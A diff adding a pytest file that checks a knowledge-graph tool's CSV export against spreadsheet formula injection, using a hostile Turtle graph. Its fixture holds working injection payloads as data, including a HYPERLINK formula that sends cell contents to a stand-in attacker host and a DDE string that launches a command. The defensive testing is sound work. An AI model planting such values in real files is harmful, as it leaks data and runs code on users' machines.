@@ -1,0 +1,62 @@
+"""Files written to hurt the reader of kg's outputs, or kg itself (issue 36: M2, M5 and the low faults)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from kg.cli import cli
+
+# A graph as kg writes one, its strings chosen by an attacker: each would be a formula in a spreadsheet.
+HOSTILE_TTL = """\
+@prefix dcterms: <http://purl.org/dc/terms/> .
+@prefix fabio: <http://purl.org/spar/fabio/> .
+@prefix kg: <https://w3id.org/kg/ontology#> .
+@prefix oa: <http://www.w3.org/ns/oa#> .
+@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
+@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
+@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
+
+<https://e.org/paper/1> a fabio:ResearchPaper ;
+    dcterms:identifier "@SUM(1+1)" ;
+    dcterms:title "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")" ;
+    fabio:hasPublicationYear "2024"^^xsd:gYear ;
+    dcterms:isPartOf <https://e.org/venue/1> ;
+    dcterms:subject <https://e.org/concept/1> .
+<https://e.org/venue/1> rdfs:label "+cmd|' /C calc'!A0" .
+<https://e.org/concept/1> a skos:Concept ; skos:prefLabel "-2+3" .
+<https://e.org/concept/2> a skos:Concept ; skos:prefLabel "\\tTab" ; skos:broader <https://e.org/concept/1> .
+<https://e.org/concept/3> a skos:Concept ; skos:prefLabel "\\r=1+1" .
+<https://e.org/ann/1> a oa:Annotation ; oa:hasBody <https://e.org/concept/1> ; kg:score "-0.25"^^xsd:decimal ;
+    oa:hasTarget <https://e.org/target/1> .
+<https://e.org/target/1> oa:hasSource <https://e.org/paper/1> ; oa:hasSelector <https://e.org/sel/1> .
+<https://e.org/sel/1> oa:start 0 ; oa:end 5 ; oa:exact "=1+2" .
+"""
+
+
+def _table(tmp_path: Path, *args: str) -> list[dict[str, str]]:
+    graph = tmp_path / "hostile.ttl"
+    graph.write_text(HOSTILE_TTL, encoding="utf-8")
+    out = CliRunner().invoke(cli, ["export", str(graph), "-f", "csv", *args])
+    assert out.exit_code == 0, out.output
+    return list(csv.DictReader(io.StringIO(out.output)))
+
+
+def test_cells_a_spreadsheet_would_evaluate_are_written_as_text(tmp_path: Path) -> None:
+    [link] = _table(tmp_path)
+    assert link["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert link["paper_id"] == "'@SUM(1+1)"
+    assert link["venue"] == "'+cmd|' /C calc'!A0"
+    assert link["label"] == "'-2+3"
+    # A number stays a number: a negative score is not text to a spreadsheet, nor to pandas.
+    assert link["score"] == "-0.25" and link["year"] == "2024"
+    assert link["evidence"] == "abstract[0:5] =1+2"  # starts with "abstract", which no spreadsheet evaluates
+    concepts = {r["concept"]: r for r in _table(tmp_path, "--table", "concepts")}
+    assert concepts["https://e.org/concept/1"]["label"] == "'-2+3"
+    assert concepts["https://e.org/concept/2"]["label"] == "'\tTab"
+    assert concepts["https://e.org/concept/3"]["label"] == "'\r=1+1"
+    assert concepts["https://e.org/concept/1"]["papers"] == "1"
